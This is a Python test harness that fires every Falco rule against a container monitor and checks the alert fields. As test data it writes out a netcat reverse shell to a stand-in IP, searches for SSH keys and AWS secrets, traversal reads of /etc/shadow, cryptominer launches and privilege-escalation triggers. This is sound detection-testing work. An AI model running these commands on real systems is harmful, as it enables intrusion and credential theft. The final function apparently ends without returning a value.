#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""bulkhead watch with Falco's public rule files, all rules enabled, on this kernel: for every rule an act that makes it fire, in a container of a real Docker or
on the host, and the alert has the right container, image, process and fields. Wants the shared rule files, root, an engine and a compiler."""
import json
import os
import shutil
import subprocess
import sys
import tarfile
import tempfile
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import engine_start  # noqa: E402
import name_server  # noqa: E402
from common import PROGRAM, SHARED, Tap  # noqa: E402

tap = Tap()
HERE = os.path.dirname(os.path.abspath(__file__))
RULES = os.path.join(SHARED, "falco", "rules")
FILES = [os.path.join(RULES, name + ".yaml") for name in ("falco_rules", "falco-incubating_rules", "falco-sandbox_rules", "enable_all_rules")]
MILLISECOND = 1000 * 1000
IMAGE = "example.test/team/acts"
# Addresses for documentation, given to the loopback of the containers, and what some of them are called.
ELSEWHERE, CLUSTER, POOL = "203.0.113.7", "203.0.113.8", "203.0.113.9"
NAMES = {"kubernetes.default.svc.cluster.local": [CLUSTER], "pool.minexmr.com": [POOL]}

# Links to the program with acts.c's deeds, and to the one with ours.
OF_DEEDS = ("apt-get base64 bash cat chmod crontab curl dash docker find grep httpd idle kubectl mount mysqld nc ncat nginx nmap node npm perl php pkexec "
            "python3 rsync scp sh shred ssh sshd sudo sudoedit tar tee useradd wget whoami xmrig java").split()

# Rules that nothing here can make fire, and why.
CANNOT = {
    "Debugfs Launched in Privileged Container": "privileged containers do not start without CAP_SYS_RESOURCE",
    "Launch Privileged Container": "privileged containers do not start without CAP_SYS_RESOURCE",
    "Mount Launched in Privileged Container": "privileged containers do not start without CAP_SYS_RESOURCE",
    "Network Connection outside Local Subnet": "its list of namespaces is empty, and there is no cluster",
    "Launch Disallowed Container": "its condition is never true as it stands: every container is allowed",
}

# Rules that the start of a container fires: the container is `plain` or `capable`.
STARTS = [
    ("capable", "Launch Excessively Capable Container", {"thread.cap_permitted": lambda text: "CAP_SYS_ADMIN" in text.split()}),
    ("capable", "Launch Sensitive Mount Container", {"container.mounts": lambda text: "/proc:/data/proc:" in text}),
    ("plain", "Container Run as Root User", {"user.name": "root", "user.uid": 0}),
]


def act(rule, words, where="plain", program="/bin/deeds", name=None, options=(), **fields):
    """What is done, where; the rule it is for; the process and the fields that the alert has."""
    process = name or program.rsplit("/", 1)[-1]
    return {"rule": rule, "words": words.split(), "where": where, "program": program, "options": options,
            "fields": {"proc.name": process, **{key.replace("__", "."): value for key, value in fields.items()}}}


def actions(rule, words, **more):
    return act(rule, words, program="/bin/actions", **more)


def run_of(rule, words, parent="/bin/deeds", **more):
    """A program is run by another."""
    name = words.split()[0].rsplit("/", 1)[-1]
    return act(rule, "run " + words, program=parent, name=name, **{"proc__pname": parent.rsplit("/", 1)[-1], **more})


ROOT = {"user__name": "root", "user__uid": 0, "user__loginuid": -1, "proc__tty": 0}
DRIFT = "Container Drift Detected (chmod)"
REDIRECT = "Redirect STDOUT/STDIN to Network Connection in Container"
SETUID_BIT = "Set Setuid or Setgid bit"
HIDDEN = "Create Hidden Files or Directories"
DROP = "Drop and execute new binary in container"
INBOUND = "Unexpected inbound connection source"
UNTRUSTED = "Read sensitive file untrusted"

ACTS = [
    # falco_rules.yaml
    act("Directory traversal monitored file read", "look ../../../../etc/shadow", fd__name="/etc/shadow", fd__nameraw="../../../../etc/shadow", **ROOT),
    act("Directory traversal monitored file read", "look ../../../../etc/none", fd__name="/etc/none", fd__nameraw="../../../../etc/none"),
    act("Directory traversal monitored file read", "look-from /var/log ../../etc/../etc/passwd", fd__name="/etc/passwd", fd__nameraw="../../etc/../etc/passwd"),
    act(UNTRUSTED, "look /etc/shadow", fd__name="/etc/shadow", evt__type="openat", proc__exepath="/bin/deeds", proc__cmdline="deeds look /etc/shadow", **ROOT),
    act(UNTRUSTED, "look2 /etc/shadow", fd__name="/etc/shadow", evt__type="openat2"),
    act(UNTRUSTED, "thread-look /etc/shadow", fd__name="/etc/shadow"),
    act(UNTRUSTED, "look-from /etc shadow", fd__name="/etc/shadow"),
    act(UNTRUSTED, "look /etc/pam.d/x", fd__name="/etc/pam.d/x"),
    act(UNTRUSTED, "look /etc/shadow", options=("-u", "0:0", "-w", "/tmp/a folder"), program="/bin/a name", fd__name="/etc/shadow", proc__cmdline="a name look /etc/shadow"),
    run_of("Run shell untrusted", "/bin/dash -c true", "/usr/sbin/nginx", proc__cmdline="dash -c true", proc__pcmdline="nginx run /bin/dash -c true", proc__pexe="/usr/sbin/nginx",
           proc__pexepath="/bin/deeds"),
    act("Run shell untrusted", "vfork /bin/dash -c true", program="/usr/sbin/nginx", name="dash", proc__pname="nginx"),
    act("System user interactive", "run /bin/idle", program="/usr/sbin/sshd", name="idle", options=("-u", "1"), user__name="daemon", user__uid=1),
    act("System user interactive", "become 8 /bin/idle", program="/usr/sbin/sshd", name="idle", user__name="mail", user__uid=8),
    run_of("Netcat Remote Code Execution in Container", "/bin/nc -e /bin/dash 192.0.2.1 1", proc__cmdline="nc -e /bin/dash 192.0.2.1 1"),
    run_of("Search Private Keys or Passwords", "/bin/find / -name id_rsa"),
    run_of("Search Private Keys or Passwords", "/bin/grep -r|BEGIN RSA PRIVATE"),
    actions("Clear Log Activities", "empty /var/log/syslog", fd__name="/var/log/syslog"),
    run_of("Remove Bulk Data from Disk", "/bin/shred /data/x"),
    actions("Create Symlink Over Sensitive Files", "link /etc /tmp/etc-link", evt__arg__target="/etc", evt__arg__linkpath="/tmp/etc-link", evt__type="symlink"),
    act("Create Hardlink Over Sensitive Files", "hard /etc/shadow /tmp/shadow-link", evt__arg__oldpath="/etc/shadow", evt__arg__newpath="/tmp/shadow-link", evt__type="link"),
    actions("Packet socket created in container", "packet", evt__arg__domain="AF_PACKET", evt__arg__type="SOCK_RAW"),
    actions(REDIRECT, "reverse", evt__type="dup2", fd__type="ipv4", fd__l4proto="tcp", fd__rport=18080),
    act(REDIRECT, "standard dup 1", evt__type="dup", fd__type="ipv4", fd__l4proto="tcp"),
    act(REDIRECT, "standard dup3 2", evt__type="dup3", fd__type="ipv4", fd__l4proto="tcp"),
    actions("Linux Kernel Module Injection Detected", "module", where="capable", evt__type="init_module"),
    actions("Linux Kernel Module Injection Detected", "module-file", where="capable", evt__type="finit_module"),
    actions("Detect release_agent File Container Escapes", "write /data/release_agent", where="capable", fd__name="/data/release_agent"),
    actions("PTRACE attached to process", "trace", where="capable", evt__type="ptrace"),
    act("PTRACE attached to process", "seize", where="capable", evt__type="ptrace"),
    act("PTRACE anti-debug attempt", "traced", evt__type="ptrace"),
    run_of("Find AWS Credentials", "/bin/grep -r aws_secret_access_key /home"),
    run_of("Find AWS Credentials", "/bin/find / -name .aws/credentials"),
    run_of("Execution from /dev/shm", "/bin/dash -c|/dev/shm/x"),
    actions(DROP, "drop /data/new", name="new", upper=True, evt__arg__flags="EXE_WRITABLE|EXE_UPPER_LAYER", proc__exepath="/data/new", proc__exe="/data/new", proc__cwd="/"),
    act("Contact K8S API Server From Container", f"talk {CLUSTER} 8443", where="capable", fd__rport=8443, fd__name=lambda text: text.endswith(f"->{CLUSTER}:8443")),
    act("Disallowed SSH Connection Non Standard Port", f"talk {ELSEWHERE} 8443", where="capable", program="/usr/bin/ssh", fd__rport=8443, fd__rip=None),
    actions("Fileless execution via memfd_create", "memory", name=lambda text: True, evt__arg__flags=lambda text: "EXE_FROM_MEMFD" in text, proc__exepath=lambda text: text.startswith("memfd:act")),
    # falco-incubating_rules.yaml
    actions("Modify Shell Configuration File", "write /root/.bashrc", fd__name="/root/.bashrc"),
    actions("Schedule Cron Jobs", "write /etc/cron.d/x", fd__name="/etc/cron.d/x"),
    run_of("Schedule Cron Jobs", "/bin/crontab x"),
    actions("Read ssh information", "read /root/.ssh/id_rsa", fd__name="/root/.ssh/id_rsa"),
    actions("Read ssh information", "read /home/user/.ssh/id_rsa", fd__name="/home/user/.ssh/id_rsa"),
    run_of("DB program spawned process", "/bin/idle", "/usr/sbin/mysqld"),
    actions("Change thread namespace", "enter", evt__type="setns"),
    actions("Change namespace privileges via unshare", "unshare", evt__type="unshare"),
    act("System procs network activity", f"talk {ELSEWHERE} 8081", where="capable", program="/usr/bin/tee", fd__l4proto="tcp"),
    actions("Program run with disallowed http proxy env", "run-with HTTP_PROXY=http://192.0.2.1:1 /bin/curl", name="curl", proc__env="HTTP_PROXY=http://192.0.2.1:1"),
    act("Unexpected UDP Traffic", f"datagram-connect {ELSEWHERE} 9999", where="capable", fd__l4proto="udp", fd__rport=9999, fd__name=lambda text: text.endswith(f"->{ELSEWHERE}:9999")),
    act("Non sudo setuid", "setuid 1000", options=("-u", "1000"), user__name="user", user__uid=1000, evt__arg__uid=lambda text: "1000" in text or text == "user"),
    act("Non sudo setuid", "setuid 61234", options=("-u", "61234"), user__name="inside", user__uid=61234),
    actions("Create files below dev", "write /dev/new", fd__name="/dev/new"),
    act("Contact EC2 Instance Metadata Service From Container", "talk 169.254.169.254 80", where="capable", fd__rport=80),
    act("Contact cloud metadata service from container", "talk 169.254.169.254 80", where="capable", fd__rport=80),
    act("Contact cloud metadata service from container", "datagram 169.254.169.254 81", where="capable", evt__type="sendto", fd__rport=81, fd__l4proto="udp"),
    act("Contact cloud metadata service from container", "message 169.254.169.254 82", where="capable", evt__type="sendmsg", fd__rport=82, fd__l4proto="udp"),
    run_of("Launch Package Management Process in Container", "/bin/apt-get install x"),
    run_of("Launch Suspicious Network Tool in Container", "/bin/nmap -sS 192.0.2.1"),
    actions("Delete or rename shell history", "remove /root/.bash_history", evt__arg__path="/root/.bash_history", evt__type="unlink"),
    actions("Delete or rename shell history", "rename /root/.zsh_history /tmp/h", evt__arg__oldpath="/root/.zsh_history", evt__type="rename"),
    actions("Delete or rename shell history", "empty /root/.ash_history", fd__name="/root/.ash_history"),
    actions(SETUID_BIT, "mode /data/raised 4755", evt__type="chmod", evt__arg__filename="/data/raised",
            evt__arg__mode="S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID"),
    actions(SETUID_BIT, "mode /data/raised2 2755", evt__arg__mode=lambda text: "S_ISGID" in text),
    run_of("Launch Remote File Copy Tools in Container", "/bin/scp x y:"),
    run_of("Launch Ingress Remote File Copy Tools in Container", "/bin/wget x"),
    run_of("Launch Ingress Remote File Copy Tools in Container", "/bin/curl -o /tmp/x http://192.0.2.1/x"),
    act("Read environment variable from /proc files", "look /proc/1/environ", fd__name="/proc/1/environ"),
    act("Read environment variable from /proc files", "look /proc/self/environ", fd__name=lambda text: text.startswith("/proc/") and text.endswith("/environ")),
    act("Exfiltrating Artifacts via Kubernetes Control Plane", "look /data/kept", program="/usr/bin/tar", fd__name="/data/kept"),
    actions("Adding ssh keys to authorized_keys", "write /root/.ssh/authorized_keys", fd__name="/root/.ssh/authorized_keys"),
    actions("Potential Local Privilege Escalation via Environment Variables Misuse", "run-with GLIBC_TUNABLES=glibc.malloc.mxfast=x /bin/idle", name="idle"),
    act("Backdoored library loaded into SSHD (CVE-2024-3094)", "look /usr/lib/liblzma.so.5.6.1", program="/usr/sbin/sshd", fd__name="/usr/lib/liblzma.so.5.6.1"),
    actions("BPF Program Not Profiled", "bpf", evt__type="bpf", evt__arg__cmd="BPF_PROG_LOAD"),
    # falco-sandbox_rules.yaml
    act(INBOUND, f"talk {ELSEWHERE} 8082", where="capable", evt__type="accept", fd__lport=None, fd__name=lambda text: text.endswith(f"->{ELSEWHERE}:8082")),
    act(INBOUND, f"datagram {ELSEWHERE} 8083", where="capable", evt__type="recvfrom", fd__l4proto="udp"),
    act("Read Shell Configuration File", "look /root/.profile", fd__name="/root/.profile"),
    actions("Update Package Repository", "write /etc/apt/sources.list.d/x.list", fd__name="/etc/apt/sources.list.d/x.list"),
    actions("Write below binary dir", "write /usr/bin/new", fd__name="/usr/bin/new"),
    actions("Write below monitored dir", "write /usr/lib/libnew.so", fd__name="/usr/lib/libnew.so"),
    actions("Write below etc", "write /etc/new", fd__name="/etc/new"),
    actions("Write below root", "write /root/new", fd__name="/root/new"),
    actions("Write below root", "write /new", fd__name="/new"),
    actions("Write below rpm database", "write /var/lib/rpm/x", fd__name="/var/lib/rpm/x"),
    actions("Modify binary dirs", "rename /usr/bin/x /usr/bin/y", evt__type="rename", evt__args=lambda text: "oldpath=/usr/bin/x newpath=/usr/bin/y" in text),
    actions("Modify binary dirs", "remove /usr/bin/gone", evt__type="unlink"),
    act("Modify binary dirs", "folder-gone /usr/bin/gone-folder", evt__type="rmdir"),
    act("Mkdir binary dirs", "folder /usr/bin/folder", evt__arg__path="/usr/bin/folder", evt__type="mkdir"),
    act("Interpreted procs inbound network activity", f"talk {ELSEWHERE} 8084", where="capable", program="/usr/bin/perl"),
    act("Interpreted procs outbound network activity", f"talk {ELSEWHERE} 8085", where="capable", program="/usr/bin/perl", evt__type="connect", fd__rport=8085),
    act("Detect outbound connections to common miner pool ports", f"talk {POOL} 3333", where="capable", fd__rip=POOL, fd__rport=3333),
    act("Detect outbound connections to common miner pool ports", f"datagram {POOL} 80", where="capable", evt__type="sendto", fd__rport=80, fd__l4proto="udp"),
    act("Unexpected K8s NodePort Connection", f"talk {ELSEWHERE} 30001", where="capable", fd__l4proto="tcp"),
    act(HIDDEN, "folder /tmp/.hidden", evt__type="mkdir"),
    actions(HIDDEN, "write /tmp/.new", fd__name="/tmp/.new"),
    actions(HIDDEN, "rename /tmp/seen /tmp/.unseen", evt__arg__newpath="/tmp/.unseen"),
    run_of("Detect crypto miners using the Stratum protocol", "/bin/idle -o stratum+tcp://192.0.2.1:3333"),
    run_of("Kubernetes Client Tool Launched in Container", "/bin/kubectl get pods"),
    actions(DRIFT, "mode /data/program 755", evt__arg__filename="/data/program", evt__arg__mode="S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR"),
    act("Container Drift Detected (open+create)", "create /data/made 755", evt__arg__name="/data/made", evt__arg__mode="0755"),
    run_of("Sudo Potential Privilege Escalation", "/bin/sudoedit -s \\"),
    actions("Unprivileged Delegation of Page Faults Handling to a Userspace Process", "faults", options=("-u", "1000"), user__name="user", user__uid=1000),
    run_of("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", "/bin/pkexec"),
    act("Java Process Class File Download", f"talk {ELSEWHERE} 8086", where="capable", program="/usr/bin/java"),
    act("Modify Container Entrypoint", "descriptor /data/entry", fd__name=lambda text: text.startswith("/proc/self/fd/")),
    run_of("Decoding Payload in Container", "/bin/base64 -d"),
    run_of("Network Tool Executed During NPM Package Install", "/bin/nmap x", "/usr/bin/npm"),
    run_of("Known Cryptominer Process Executed", "/bin/xmrig"),
    act("Known Cryptominer Process Executed", "thread-exec /bin/xmrig", name="xmrig"),
    act("Detect crypto miners using the Stratum protocol", "exec-at /bin/idle stratum+tcp://192.0.2.1:3333", name=lambda text: True, evt__type="execve"),
    act("Known Cryptominer Process Executed", "orphan /bin/xmrig", name="xmrig"),
    run_of("Web Server Spawned Shell", "/bin/dash -c true", "/usr/sbin/nginx"),
    run_of("Web Server Spawned Suspicious Child Process", "/bin/whoami", "/usr/sbin/httpd"),
    run_of("Reverse Shell from Web Server", "/bin/bash -i", "/usr/sbin/php"),
    actions("Privileged Container Device Access", "read /dev/sdz", fd__name="/dev/sdz"),
    actions("Container Access to Host Sensitive Paths", "read /host/secret", fd__name="/host/secret"),
    # on the host
    run_of("Launch Suspicious Network Tool on Host", "nmap x", where="host"),
    run_of("Netcat/Socat Remote Code Execution on Host", "nc -e x", where="host"),
    run_of("User mgmt binaries", "useradd x", where="host"),
    run_of("Execution from /dev/shm", "/dev/shm/deeds", where="host", proc__exe="/dev/shm/deeds", proc__exepath="/dev/shm/deeds"),
    act("Non sudo setuid", "setuid 1", where="host", user__name="daemon", evt__arg__uid="daemon"),
]

# With a terminal.
SITTING = [
    ("/bin/dash", "Terminal shell in container", {"proc.tty": lambda tty: tty != 0, "proc.name": "dash"}),
    ("/bin/whoami", "Basic Interactive Reconnaissance", {"proc.name": "whoami", "proc.tty": lambda tty: tty != 0}),
]


class Watcher:
    """A bulkhead watch in the background; its alerts as they come, with the time of arrival."""

    def __init__(self, socket, folder):
        self.alerts, self.complaints = [], []
        files = [word for name in FILES for word in ("-r", name)]
        with open(folder + "/names.json", "w", encoding="utf-8") as out:
            json.dump(NAMES, out)
        words = name_server.wrapped(out.name, PROGRAM, "watch", "--format", "json", "--resolve", *files)
        self.process = subprocess.Popen(words, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                        text=True, env={**os.environ, "DOCKER_HOST": "unix://" + socket, "CONTAINER_HOST": "unix:///nowhere"})
        self.threads = [threading.Thread(target=self.read, daemon=True), threading.Thread(target=self.hear, daemon=True)]
        for thread in self.threads:
            thread.start()
        for _ in range(100):
            if (self.works() and self.knows_names()) or self.process.poll() is not None:
                break
            time.sleep(0.1)
        time.sleep(0.3)

    def read(self):
        for line in self.process.stdout:
            self.alerts.append({**json.loads(line), "arrived": time.time_ns()})

    def hear(self):
        for line in self.process.stderr:
            self.complaints.append(line.rstrip())

    def works(self):
        return self.process.poll() is None and any("watching by" in line for line in self.complaints)

    def knows_names(self):
        return any("names of addresses: 2 of" in line for line in self.complaints)

    def of(self, begin, end, container=None):
        """Alerts within a time, by the kernel's clock."""
        return [one for one in list(self.alerts) if begin <= one["output_fields"]["evt.time"] < end
                and container in (None, one["output_fields"].get("container.id"))]

    def end(self):
        self.process.terminate()
        code = self.process.wait(30)
        for thread in self.threads:
            thread.join(10)
        return code


def compile_of(folder, name, source):
    program = os.path.join(folder, name)
    compiler = shutil.which("cc") or shutil.which("gcc")
    done = compiler and engine_start.calls(compiler, "-static", "-O1", "-D_GNU_SOURCE", "-pthread", "-o", program, os.path.join(HERE, source))
    return program if done and done.returncode == 0 else None


def compile_compat(folder):
    source, program = os.path.join(folder, "compat.c"), os.path.join(folder, "compat")
    with open(source, "w", encoding="utf-8") as out:
        out.write(COMPAT)
    engine_start.calls(shutil.which("cc") or "gcc", "-m32", "-O1", "-static", "-nostdlib", "-ffreestanding", "-fno-stack-protector", "-fno-pic", "-no-pie", "-o", program, source)
    return program if os.path.exists(program) else None


def make_image(folder):
    """Both programs under their names, users of its own, a few files. None where no compiler is."""
    both = compile_of(folder, "actions", "actions.c"), compile_of(folder, "deeds", "public_actions.c")
    if None in both:
        return None
    texts = {"etc/passwd": "root:x:0:0::/root:/bin/sh\ndaemon:x:1:1::/:/bin/no\nmail:x:8:8::/:/bin/no\nuser:x:1000:1000::/:/bin/sh\ninside:x:61234:1000::/:/bin/sh\n",
             "etc/group": "root:x:0:\nuser:x:1000:\n", "etc/shadow": "root:*::\n", "etc/pam.d/x": "", "root/.profile": "", "data/kept": "", "usr/lib/liblzma.so.5.6.1": ""}
    archive = os.path.join(folder, "image.tar")
    compat = compile_compat(folder)
    with tarfile.open(archive, "w") as tar:
        def entry(name, kind, mode=0o755, **more):
            info = tarfile.TarInfo(name)
            info.type, info.mode = kind, mode
            for key, value in more.items():
                setattr(info, key, value)
            tar.addfile(info)
        for name in ("bin data dev etc etc/pam.d etc/cron.d etc/apt etc/apt/sources.list.d home home/user host proc root run sys tmp usr usr/bin usr/sbin usr/lib var var/log "
                     "var/lib var/lib/rpm").split() + ["tmp/a folder"]:
            entry(name, tarfile.DIRTYPE, 0o777 if name in ("tmp", "data") else 0o755)
        for program in both:
            tar.add(program, "bin/" + os.path.basename(program))
        if compat:
            tar.add(compat, "bin/compat")
        entry("bin/a name", tarfile.SYMTYPE, linkname="deeds")
        for name in OF_DEEDS:
            for place in ("bin/", "usr/bin/", "usr/sbin/"):
                entry(place + name, tarfile.SYMTYPE, linkname="/bin/deeds")
        for name, text in texts.items():
            path = os.path.join(folder, "text")
            with open(path, "w", encoding="utf-8") as out:
                out.write(text)
            tar.add(path, name)
    return archive


def fits(wanted, got):
    if callable(wanted):
        return got is not None and wanted(got)
    return wanted is None or wanted == got


def wrong_fields(wanted, alert):
    fields = alert["output_fields"]
    return {key: fields[key] for key, value in wanted.items() if key in fields and not fits(value, fields[key])}


def look_at(watcher, one, container, name, begin, end, told):
    """What came of one act; the time of the act is that which the program told right before it."""
    upper = one["fields"].pop("upper", None)
    label = f"{one['where']}: {os.path.basename(one['program'])} {' '.join(one['words'])}: {one['rule']}"
    if "Kernel Module" in one["rule"] and not os.path.exists("/proc/modules"):
        tap.skip(label, "this kernel has no modules")
        return
    if upper and not container["upper"]:
        tap.skip(label, "the engine has no overlay file system here")
        return
    alerts = watcher.of(max(told, begin), end, container["id"])
    found = [alert for alert in alerts if alert["rule"] == one["rule"]]
    right = [alert for alert in found if not wrong_fields(one["fields"], alert)]
    notes = [f"{alert['rule']}: {wrong_fields(one['fields'], alert)}" for alert in found] or [sorted({alert["rule"] for alert in watcher.of(begin, end)})]
    tap.ok(right, label, told, *notes)
    if not right:
        return
    fields = right[0]["output_fields"]
    named = container["id"] == "host" or (fields.get("container.name") == name and fields.get("container.image.repository") == IMAGE and fields.get("container.image.tag") == "1.5")
    late = (right[0]["arrived"] - fields["evt.time"]) // MILLISECOND
    # who started it may be gone already: then it is whose child it became
    parent = fields.get("proc.pname", "") is not None
    tap.ok(named and parent and late < 2000, f"{label}: in its container, with a parent, soon", late, {key: fields.get(key) for key in ("container.name", "container.image.repository", "container.image.tag", "proc.pname")})
    LATE.append(late)


LATE = []

# A 32-bit program without any library. The first of its kind is only seen from some milliseconds on, so it waits before it does anything.
COMPAT = r"""
static long call(long number, long a, long b, long c)
{
	long ret;
	__asm__ volatile("int $0x80" : "=a"(ret) : "a"(number), "b"(a), "c"(b), "d"(c) : "memory");
	return ret;
}
void _start(void)
{
	long pause[2] = {0, 300000000}, packet[3] = {17, 3, 0};
	call(162, (long)pause, 0, 0);
	call(5, (long)"/etc/shadow", 0, 0);
	call(102, 1, (long)packet, 0);
	call(15, (long)"/data/kept", 04755, 0);
	call(1, 0, 0, 0);
}
"""


def perform(engine, one, folder):
    if one["where"] == "host":
        program = one["program"] if one["program"].startswith("/dev/shm/") else os.path.join(folder, os.path.basename(one["program"]))
        words = [os.path.join(folder, word) if word in OF_DEEDS + ["deeds"] else word for word in one["words"]]
        return engine_start.calls(program, *words, cwd=folder)
    words = [part for word in one["words"] for part in word.split("|")]
    return engine.run("exec", *one["options"], one["where"], one["program"], *words)


def act_all(engine, watcher, containers, folder):
    late = [subprocess.Popen([*engine.words, "exec", "plain", "/usr/sbin/nginx", "late", "6", "/etc/shadow"], stdout=subprocess.PIPE, text=True)]
    begun, windows = time.time_ns(), []
    for one in ACTS:
        begin = time.time_ns()
        done = perform(engine, one, folder)
        told = int(done.stdout.split()[0]) if done.stdout.split() else 0
        windows.append((one, begin, time.time_ns(), told, done))
    told = int(late[0].communicate(timeout=60)[0].split()[0])
    time.sleep(1)
    for one, begin, end, told_one, done in windows:
        look_at(watcher, one, containers[one["where"]], one["where"], begin, end, told_one)
    rule = "Read sensitive file trusted after startup"
    look_at(watcher, act(rule, "late 6 /etc/shadow", program="/usr/sbin/nginx", fd__name="/etc/shadow"), containers["plain"], "plain", begun, time.time_ns(), told)


def look_at_starts(watcher, containers):
    for name, rule, fields in STARTS:
        found = [one for one in watcher.of(0, 1 << 63, containers[name]["id"]) if one["rule"] == rule]
        wrong = [wrong_fields(fields, one) for one in found]
        named = found and all(one["output_fields"]["container.name"] == name and one["output_fields"]["container.image.repository"] == IMAGE for one in found)
        tap.ok(found and named and not any(wrong), f"start of {name}: {rule}", wrong, found[:1])
    started = {one["rule"] for one in watcher.of(0, 1 << 63, containers["plain"]["id"]) if one["output_fields"].get("proc.cmdline") == "actions sleep"}
    tap.ok(started == {"Container Run as Root User"}, "the start of a plain container fires nothing else", started)
    # the process that makes the container is its runtime's sibling, and not its child: it still has its arguments from who cloned it
    makers = {one["output_fields"]["proc.cmdline"] for one in watcher.alerts if str(one["output_fields"].get("proc.name")).startswith("runc:[")}
    if makers:
        tap.ok(all(line.split("]")[-1] == " init" for line in makers), "what runc does to make a container has its command line", makers)
    else:
        tap.skip("what runc does to make a container has its command line", "this runtime does nothing of what rules ask about")


def sit(engine, watcher, ident):
    for program, rule, fields in SITTING:
        begin = time.time_ns()
        engine.run("exec", "-t", "plain", program)
        time.sleep(1)
        found = [one for one in watcher.of(begin, 1 << 63, ident) if one["rule"] == rule]
        tap.ok(found and not wrong_fields(fields, found[0]), f"{program} with a terminal: {rule}", found[:1], sorted({one["rule"] for one in watcher.of(begin, 1 << 63)}))


def run_short(engine, watcher, count):
    """Containers that end at once, started together: each is told with its own name."""
    begin = time.time_ns()
    started = [subprocess.Popen([*engine.words, "run", "--rm", "--name", f"short{i}", "--network", "none", f"{IMAGE}:1.5", "/bin/xmrig"], stderr=subprocess.DEVNULL) for i in range(count)]
    for process in started:
        process.wait(120)
    time.sleep(1)
    found = [one["output_fields"] for one in watcher.of(begin, 1 << 63) if one["rule"] == "Known Cryptominer Process Executed"]
    names = sorted(fields["container.name"] or "?" for fields in found)
    tap.ok(names == [f"short{i}" for i in range(count)] and len({fields["container.id"] for fields in found}) == count
           and {fields["container.image.repository"] for fields in found} == {IMAGE}, f"{count} short containers at once", names, found[:2])


def restart(engine, watcher):
    """A restarted container is told by its name."""
    ident = engine.start("before", "--network", "none", command=("/bin/actions", "sleep"))
    engine.run("restart", "-t", "0", "before")
    begin = time.time_ns()
    engine.run("exec", "before", "/bin/xmrig")
    time.sleep(1)
    found = [one["output_fields"]["container.name"] for one in watcher.of(begin, 1 << 63, (ident or "")[:12]) if one["rule"] == "Known Cryptominer Process Executed"]
    tap.ok(found == ["before"], "a restarted container", found)
    engine.remove("before")


def run_compat(engine, watcher, ident):
    begin = time.time_ns()
    done = engine.run("exec", "plain", "/bin/compat")
    if done.returncode:
        tap.skip("what a 32-bit program does", "there are none here")
        return
    time.sleep(1)
    found = {one["rule"]: one["output_fields"] for one in watcher.of(begin, 1 << 63, ident) if one["output_fields"].get("proc.name") == "compat"}
    tap.ok({UNTRUSTED, "Packet socket created in container", SETUID_BIT, DRIFT} == set(found), "what a 32-bit program does", sorted(found))
    tap.ok(found.get(UNTRUSTED, {}).get("fd.name") == "/etc/shadow" and found.get(SETUID_BIT, {}).get("evt.arg.filename") == "/data/kept", "its paths", found)


def use_podman(scratch, archive, watcher):
    """The same with Podman, whose containers nobody but itself and their bundles know."""
    with engine_start.podman(scratch, archive) as engine:
        if not engine:
            tap.skip("containers of podman", "it does not work here")
            return
        engine.run("tag", "kernel-test:one", IMAGE + ":1.5")
        ident = start(engine, "kept", (*engine.always, "--network", "none"), ("/bin/actions", "sleep"))
        begin = time.time_ns()
        engine.run("exec", "kept", "/bin/xmrig")
        engine.run("run", "--rm", "--name", "brief", *engine.always, "--network", "none", f"{IMAGE}:1.5", "/bin/xmrig")
        time.sleep(1)
        found = [one["output_fields"] for one in watcher.of(begin, 1 << 63) if one["rule"] == "Known Cryptominer Process Executed"]
        told = [(fields["container.name"], fields["container.image.repository"], fields["container.image.tag"]) for fields in found]
        tap.ok(told == [("kept", IMAGE, "1.5"), ("brief", IMAGE, "1.5")] and found[0]["container.id"] == ident[:12], "containers of podman", told, engine.error)


def containers_start(engine, driver):
    options = {"plain": ("--network", "none", "--security-opt", "seccomp=unconfined"),
               "capable": ("--network", "none", "--security-opt", "seccomp=unconfined", "--cap-add", "SYS_ADMIN", "--cap-add", "SYS_MODULE", "--cap-add", "NET_ADMIN",
                           "--cap-add", "SYS_PTRACE", "-v", "/proc:/data/proc:ro")}
    ret = {"host": {"id": "host", "upper": True}}
    for name, words in options.items():
        ident = engine.start(name, *words, command=("/bin/actions", "sleep"))
        tap.ok(ident, f"container {name} starts", engine.error)
        ret[name] = {"id": (ident or "")[:12], "upper": driver == "overlay2"}
    return ret


def rules_known():
    """The names of all rules of the files."""
    ret = []
    for name in FILES[:3]:
        with open(name, encoding="utf-8") as lines:
            ret += [line.split(":", 1)[1].strip() for line in lines if line.startswith("- rule:")]
    return ret


def watch_all(scratch, archive, driver):
    folder = scratch + "/docker"
    os.makedirs(folder)
    socket = folder + "/unlikely-name.sock"
    with open(folder + "/none.json", "w", encoding="utf-8") as out:
        out.write("{}")
    words = ["dockerd", "--data-root", folder + "/data", "--exec-root", folder + "/exec", "--pidfile", folder + "/pid", "-H", "unix://" + socket,
             "--bridge=none", "--iptables=false", "--ip6tables=false", "--storage-driver", driver, "--config-file", folder + "/none.json"]
    with engine_start.docker_of(words, socket, folder, archive) as engine:
        if not engine:
            return False
        engine.run("tag", "kernel-test:one", IMAGE + ":1.5")
        engine.start = lambda name, *options, command: start(engine, name, options, command)
        watcher = Watcher(socket, folder)
        if not watcher.works():
            tap.skip("alerts of running containers", f"events of the kernel are not to be had: {watcher.complaints[:1]}")
            return True
        try:
            containers = containers_start(engine, driver)
            for address, label in ((ELSEWHERE, "1"), ("169.254.169.254", "2"), (CLUSTER, "3"), (POOL, "4")):
                done = engine.run("exec", "capable", "/bin/deeds", "address", address, label)
                tap.ok(done.returncode == 0, f"the loopback has {address}", done.stderr)
            act_all(engine, watcher, containers, scratch + "/host")
            look_at_starts(watcher, containers)
            sit(engine, watcher, containers["plain"]["id"])
            run_short(engine, watcher, 10)
            restart(engine, watcher)
            run_compat(engine, watcher, containers["plain"]["id"])
            use_podman(scratch, archive, watcher)
        finally:
            code = watcher.end()
        complaints = [line for line in watcher.complaints if "watching by" not in line and "names of addresses: 2 of" not in line]
        tap.ok(code == 1 and not complaints, "it ends with 1 and lost nothing", code, complaints)
    return True


def start(engine, name, options, command):
    done = engine.run("run", "-d", "--name", name, *options, f"{IMAGE}:1.5", *command)
    engine.error = done.stderr.strip()
